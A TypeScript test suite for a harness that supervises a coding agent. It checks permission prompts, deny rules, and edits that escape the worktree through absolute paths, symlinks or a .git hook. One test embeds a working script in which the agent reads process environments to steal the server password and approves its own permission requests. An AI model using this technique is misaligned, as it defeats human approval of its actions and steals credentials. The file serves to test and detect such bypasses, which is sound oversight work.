import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import { systemClock } from '../../src/adapters/clock/systemClock.ts';
import type { AgentServer, PermissionAsk, PermissionReply } from '../../src/core/ports/agent.ts';
import { OpenCodeBench, runTurn, wideLimits } from '../support/openCodeCell.ts';
import type { ModelAction, ModelCall, ScriptedModel } from '../support/scriptedModel.ts';

describe('permissions of a real agent', function () {
  this.timeout(180_000);
  let bench: OpenCodeBench;
  let server: AgentServer;
  let worktree: string;
  let outside: string;
  let script: (call: ModelCall) => ModelAction = () => ({ text: 'nothing' });
  const steps = (...actions: readonly ModelAction[]): void => {
    script = ({ turn }) => actions[turn] ?? { text: 'end' };
  };
  const write = (filePath: string): ModelAction => ({ tools: [{ name: 'write', args: { filePath, content: 'x\n' } }] });
  const lastResult = (model: ScriptedModel): string => model.calls.at(-1)?.toolResults.join() ?? '';

  before(async () => {
    bench = await OpenCodeBench.start((call) => script(call));
    ({ server, worktree } = await bench.cell('permissions', {
      permissions: [
        { permission: '*', pattern: '*', action: 'allow' },
        { permission: 'edit', pattern: '*', action: 'ask' },
        { permission: 'bash', pattern: 'git push*', action: 'deny' },
        { permission: 'external_directory', pattern: '*', action: 'deny' },
        { permission: 'webfetch', pattern: '*', action: 'deny' },
      ],
    }));
    outside = join(bench.root, 'outside');
    mkdirSync(outside);
  });
  after(() => bench.dispose());

  const answering = async (reply: PermissionReply) => {
    const asked: PermissionAsk[] = [];
    const turn = await runTurn(server, {
      onPermission: async (ask) => {
        asked.push(ask);
        return reply;
      },
    });
    return { ...turn, asked };
  };

  it('asks with the paths it would touch, and goes on when allowed', async () => {
    steps(write('allowed.txt'), { text: 'done' });
    const { result, asked } = await answering({ reply: 'once' });
    assert.deepEqual(result, { end: 'done', steps: 2, violations: [] });
    assert.deepEqual(
      asked.map(({ permission, patterns, tool, paths }) => ({ permission, patterns, tool, paths })),
      [{ permission: 'edit', patterns: ['allowed.txt'], tool: 'write', paths: [join(worktree, 'allowed.txt')] }],
    );
    assert.ok(existsSync(join(worktree, 'allowed.txt')));
  });

  it('asks for a subagent, too', async () => {
    const task = { description: 'part', prompt: 'do the small part', subagent_type: 'general' };
    script = ({ prompt, turn }) => {
      if (turn > 0) return { text: 'done' };
      return prompt.includes('the small part') ? write('sub.txt') : { tools: [{ name: 'task', args: task }] };
    };
    const { result, asked, sessionId } = await answering({ reply: 'once' });
    assert.deepEqual(result, { end: 'done', steps: 4, violations: [] });
    assert.deepEqual(
      asked.map((ask) => [ask.permission, ask.patterns, ask.sessionId === sessionId]),
      [['edit', ['sub.txt'], false]],
    );
    assert.ok(existsSync(join(worktree, 'sub.txt')));
  });

  it('ends the turn when refused without words', async () => {
    steps(write('refused.txt'), { text: 'done' });
    const { result } = await answering({ reply: 'reject' });
    assert.deepEqual([result.end, result.violations, existsSync(join(worktree, 'refused.txt'))], ['rejected', [], false]);
  });

  it('tells the model why when refused with words', async () => {
    steps(write('refused.txt'), { text: 'I see' });
    const { result, messages } = await answering({ reply: 'reject', message: 'use another file' });
    assert.deepEqual([result.end, messages.at(-1)?.text], ['done', 'I see']);
    assert.match(lastResult(bench.model), /use another file/);
  });

  it('asks once for what is always allowed, and takes its own later answers for its own', async () => {
    steps(write('always1.txt'), write('always2.txt'), { text: 'done' });
    const { result, asked } = await answering({ reply: 'always' });
    assert.deepEqual([result, asked.length], [{ end: 'done', steps: 3, violations: [] }, 1]);
    assert.ok(existsSync(join(worktree, 'always2.txt')));
  });

  it('leaves what is denied to be decided and recorded, and does not offer what is denied altogether', async () => {
    steps({ tools: [{ name: 'bash', args: { command: 'git push origin main', description: 'push' } }] }, { text: 'done' });
    const { asked } = await answering({ reply: 'reject', message: 'no' });
    assert.deepEqual(
      asked.map(({ permission, patterns }) => [permission, patterns]),
      [['bash', ['git push origin main']]],
    );
    assert.equal(bench.model.calls.at(-1)?.tools.includes('webfetch'), false);
  });

  it('lets time stand still while somebody is asked', async () => {
    steps({ tools: [{ name: 'bash', args: { command: 'echo hi', description: 'x' } }] }, { text: 'done' });
    const { result } = await runTurn(server, {
      limits: { ...wideLimits, timeoutMs: 2_500, stallMs: 2_500 },
      onPermission: async () => {
        await systemClock.sleep(4_000);
        return { reply: 'once' };
      },
    });
    assert.equal(result.end, 'done');
  });

  it('takes the ask back when the turn is cancelled', async () => {
    steps({ tools: [{ name: 'bash', args: { command: 'echo hi', description: 'x' } }] }, { text: 'done' });
    const stop = new AbortController();
    let takenBack = false;
    const { result } = await runTurn(server, {
      signal: stop.signal,
      onPermission: (_ask, signal) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () => {
            takenBack = true;
            resolve({ reply: 'reject' });
          });
          stop.abort();
        }),
    });
    assert.deepEqual([result.end, takenBack], ['aborted', true]);
  });

  it('asks before an absolute path outside, and calls an edit there a violation unless it was allowed', async () => {
    steps(write(join(outside, 'a.txt')), { text: 'done' });
    const refused = await answering({ reply: 'reject', message: 'stay inside' });
    assert.deepEqual(
      refused.asked.map(({ permission, paths }) => [permission, paths]),
      [['external_directory', [join(outside, 'a.txt')]]],
    );
    assert.deepEqual([refused.result.violations, existsSync(join(outside, 'a.txt'))], [[], false]);
    const allowed = await answering({ reply: 'once' });
    assert.deepEqual([allowed.result.end, allowed.result.violations, existsSync(join(outside, 'a.txt'))], ['done', [], true]);
  });

  it('shows where a link leads when it asks', async () => {
    symlinkSync(outside, join(worktree, 'link'));
    // A path of its own, which nothing has been allowed for.
    const { server: strict, worktree: own } = await bench.cell('links', {
      permissions: [{ permission: 'edit', pattern: '*', action: 'ask' }],
    });
    symlinkSync(outside, join(own, 'link'));
    steps(write('link/b.txt'), { text: 'done' });
    const asked: PermissionAsk[] = [];
    await runTurn(strict, {
      onPermission: async (ask) => {
        asked.push(ask);
        return { reply: 'reject' };
      },
    });
    assert.deepEqual(asked[0]?.paths, [join(outside, 'b.txt')]);
  });
});

describe('lines an agent crosses', function () {
  this.timeout(180_000);
  let bench: OpenCodeBench;
  let script: (call: ModelCall) => ModelAction = () => ({ text: 'nothing' });
  before(async () => {
    bench = await OpenCodeBench.start((call) => script(call));
  });
  after(() => bench.dispose());

  it('an edit outside and an edit through a link that leads out are violations where nothing asked', async () => {
    const { server, worktree } = await bench.cell('outside');
    const outside = join(bench.root, 'elsewhere');
    mkdirSync(outside);
    symlinkSync(outside, join(worktree, 'link'));
    symlinkSync(join(outside, 'dangling.txt'), join(worktree, 'dangling'));
    writeFileSync(join(worktree, 'inside.txt'), 'a\n');
    symlinkSync('inside.txt', join(worktree, 'harmless'));
    const actions = ['harmless', 'link/via.txt', 'dangling', join(outside, 'direct.txt'), '.git/hooks/pre-commit'];
    script = ({ turn }) =>
      turn < actions.length ? { tools: [{ name: 'write', args: { filePath: actions[turn], content: 'x\n' } }] } : { text: 'done' };
    const { result } = await runTurn(server);
    assert.equal(readFileSync(join(outside, 'via.txt'), 'utf8'), 'x\n');
    assert.deepEqual(
      result.violations.map(({ kind, detail }) => `${kind}: ${detail.replaceAll(bench.root, '')}`),
      [
        'linkOutside: write changed /worktrees/outside/link/via.txt, which leads to /elsewhere/via.txt outside the worktree',
        'linkOutside: write changed /worktrees/outside/dangling, which leads to /elsewhere/dangling.txt outside the worktree',
        'editOutside: write changed /elsewhere/direct.txt outside the worktree',
      ],
    );
  });

  it('an agent that answers its own permission request is found out', async () => {
    const { server, worktree } = await bench.cell('self', { permissions: [{ permission: 'edit', pattern: '*', action: 'ask' }] });
    // The agent as a client of the server that runs it: it finds the password among the processes of its cell and allows what is open.
    const attack = `
      const { readFileSync, readdirSync } = require('node:fs');
      const environments = readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map((pid) => { try { return readFileSync('/proc/' + pid + '/environ', 'utf8').split(String.fromCharCode(0)); } catch { return []; } });
      const cell = 'REACTOR_CELL=' + process.env.REACTOR_CELL;
      const secret = environments.filter((lines) => lines.includes(cell)).flat().find((line) => line.startsWith('OPENCODE_SERVER_PASSWORD=')).slice(25);
      const headers = { authorization: 'Basic ' + Buffer.from('opencode:' + secret).toString('base64'), 'content-type': 'application/json' };
      const attempt = async () => {
        const open = await (await fetch('${server.url}/permission', { headers })).json();
        for (const ask of open) await fetch('${server.url}/permission/' + ask.id + '/reply', { method: 'POST', headers, body: JSON.stringify({ reply: 'once' }) });
        if (!open.length) setTimeout(attempt, 50);
      };
      attempt();`;
    writeFileSync(join(worktree, 'attack.cjs'), attack);
    script = ({ turn }) =>
      [
        { tools: [{ name: 'bash', args: { command: 'node attack.cjs >/dev/null 2>&1 &', description: 'x' } }] },
        { tools: [{ name: 'write', args: { filePath: 'own.txt', content: 'x\n' } }] },
        { text: 'done' },
      ][turn] ?? { text: 'end' };
    const { result } = await runTurn(server, {
      onPermission: (_ask, signal) => new Promise((resolve) => signal.addEventListener('abort', () => resolve({ reply: 'reject' }))),
    });
    assert.deepEqual([result.end, result.violations.map((violation) => violation.kind)], ['done', ['foreignReply']]);
  });

  it("keeps the server's password and the handed-over keys out of the agent's shell", async () => {
    const { server } = await bench.cell('secrets');
    script = ({ turn }) => (turn === 0 ? { tools: [{ name: 'bash', args: { command: 'env', description: 'x' } }] } : { text: 'done' });
    await runTurn(server);
    const printed = bench.model.calls.at(-1)?.toolResults.join() ?? '';
    assert.match(printed, /^REACTOR_CELL=/m);
    assert.doesNotMatch(printed, /OPENCODE_SERVER_PASSWORD|OPENCODE_CONFIG_CONTENT|OPENCODE_AUTH_CONTENT|XDG_/);
  });
});
